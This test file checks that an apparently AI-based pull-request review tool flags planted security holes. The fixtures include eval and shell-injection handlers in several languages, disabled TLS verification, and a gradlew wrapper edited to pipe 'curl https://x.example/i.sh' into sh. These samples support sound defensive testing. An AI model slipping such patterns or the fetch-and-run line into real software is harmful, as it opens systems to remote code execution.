import { afterAll, beforeAll, expect, test } from 'vitest';
import { ServeScene, type ServeProcess } from '../../app/webhook/serve-scene.ts';
import { startModelServer } from '../../support/model-server.ts';
import { json } from '../../support/model-server/reply.ts';
import { askerOf } from '../model-review-fixture.ts';
import { World } from './world.ts';

// Ways in which a review could end green although nobody looked, each tried through the Action and through the App, as a job and a server of their own.
// What outside reviewers say comes by the command line alone; memories are tried in test/app/pull-request/memory.test.ts.

const EVAL = 'export function run(req, res) {\n  res.send(eval(req.query.code));\n}\n';
const WRAPPER = '#!/bin/sh\nexec java -jar gradle/wrapper/gradle-wrapper.jar "$@"\n';
const BASE = {
  gradlew: WRAPPER,
  'vendor/lib.js': '/* vendored */\nexport function lib(req) {\n  return req;\n}\n',
  'src/tls.ts': 'export const VERIFY = true;\n',
  'src/agent.ts':
    "import { VERIFY } from './tls.ts';\nexport const agent = new Agent({ rejectUnauthorized: VERIFY });\n",
};
/** All at once: each has to leave its own word. */
const CHANGE = {
  'lib/shop.ex': 'defmodule Shop do\n  def run(text), do: System.cmd("sh", ["-c", text])\nend\n',
  'h.go':
    'package main\n\nimport (\n\t"net/http"\n\t"os/exec"\n)\n\nfunc h(w http.ResponseWriter, r *http.Request) {\n\texec.Command("sh", "-c", r.FormValue("c")).Run()\n}\n',
  'src/marked.js': `// @generated\n${EVAL}`,
  'dist/named.js': EVAL,
  gradlew: WRAPPER.replace('exec', 'curl -s https://x.example/i.sh | sh\nexec'),
  'vendor/lib.js':
    '/* vendored */\nimport { exec } from "node:child_process";\nexport function lib(req) {\n  exec(req.query.c);\n  return req;\n}\n',
  'src/guard.js':
    "import { exec } from 'node:child_process';\nexport function run(req, res) {\n  const isValid = check(req.query.other);\n  if (!isValid) return res.end();\n  exec('ls ' + req.query.dir);\n}\n",
  'src/tls.ts': 'export const VERIFY = false;\n',
};
const TOLD = ['h.go', 'src/marked.js', 'dist/named.js', 'gradlew', 'vendor/lib.js', 'src/guard.js', 'src/tls.ts'];

let world: World;
let scene: ServeScene;
let server: ServeProcess;
beforeAll(async () => {
  world = await World.open(BASE);
  scene = await ServeScene.open(BASE);
  server = await scene.serve();
});
afterAll(async () => {
  await server.end('SIGTERM');
  await scene.close();
  await world.close();
});

test('the Action: each way leaves its word, the check fails, and --fail-on is not hidden by what is not covered', async () => {
  const pull = world.pull({ files: CHANGE });
  const { code, outputs } = await world.start(pull, { inputs: { 'fail-on': 'critical' } }).ended;
  const { checks } = world.told(pull);
  const said = world.texts(pull).map(({ text }) => text);
  expect(code).toBe(1);
  expect(checks).toEqual([expect.stringMatching(/^completed failure: Significant concerns: .*not all covered$/)]);
  expect(said.join('\n')).toMatch(/1 Elixir file/);
  expect(TOLD.filter((path) => !isTold(path, world))).toEqual([]);
  expect(outputs).toContain('significant_concerns');
});

test('the App: the same', async () => {
  await server.printed('GitHub confirms who we are');
  const pull = scene.openPull('ways', CHANGE);
  await scene.delivered('opened', pull, 'ways');
  await server.printed('"delivery":"ways","lane":"acme/shop#1","state":"done"');
  const check = scene.github.state.checkRuns.findLast(({ headCommit }) => headCommit === pull.headCommit);
  expect(check).toMatchObject({
    conclusion: 'failure',
    title: expect.stringMatching(/^Significant concerns: .*not all covered$/),
  });
  expect(check?.summary).toMatch(/1 Elixir file/);
  expect(TOLD.filter((path) => !isTold(path, scene))).toEqual([]);
});

/** Something stands beside the file, or about it in a text. */
function isTold(path: string, { github: { state } }: Pick<World, 'github'>): boolean {
  const texts = [...state.reviews, ...state.issueComments].map(({ body }) => body.replaceAll('\\', ''));
  return state.threads.some((one) => one.path === path) || texts.some((text) => text.includes(path));
}

test('the Action: a server that cuts its prompt, and a model that is sure in other scales, end in no approval', async () => {
  const text = `${Array.from({ length: 900 }, (_, at) => `export const rate${at} = convert(base, table[${at}], day);`).join('\n')}\n`;
  const quote = 'export const rate7 = convert(base, table[7], day);';
  const model = await startModelServer({
    contexts: { 'model-1': 131_072 },
    respond: (request) => {
      if (askerOf(request) !== 'security') return json({ findings: [] }, { usage: { input: 4095 } });
      const place = { path: 'src/rates.js', side: 'new', startLine: 8, endLine: 8, quote };
      const rest = { failureScenario: null, replacement: null, references: [] };
      const words = { title: 'The rate is of another day', explanation: 'It reads the wrong table.' };
      const finding = {
        rule: 'missing-authorisation',
        severity: 'critical',
        confidence: 0.95,
        ...place,
        ...words,
        ...rest,
      };
      return json({ findings: [finding] }, { usage: { input: 4095 } });
    },
  });
  try {
    const own = { kind: 'openai-compatible', baseUrl: model.openAiUrl };
    const config = JSON.stringify({ providers: { own }, models: { standard: 'own/model-1' } });
    const pull = world.pull({ files: { 'src/rates.js': text } });
    const { code } = await world.start(pull, { inputs: { config } }).ended;
    expect(code).toBe(3);
    expect(world.told(pull).checks).toEqual([expect.stringMatching(/^completed failure: /)]);
    expect(
      world
        .texts(pull)
        .map((one) => one.text)
        .join('\n'),
    ).toMatch(/4,095 tokens of a prompt/);
  } finally {
    await model.close();
  }
});
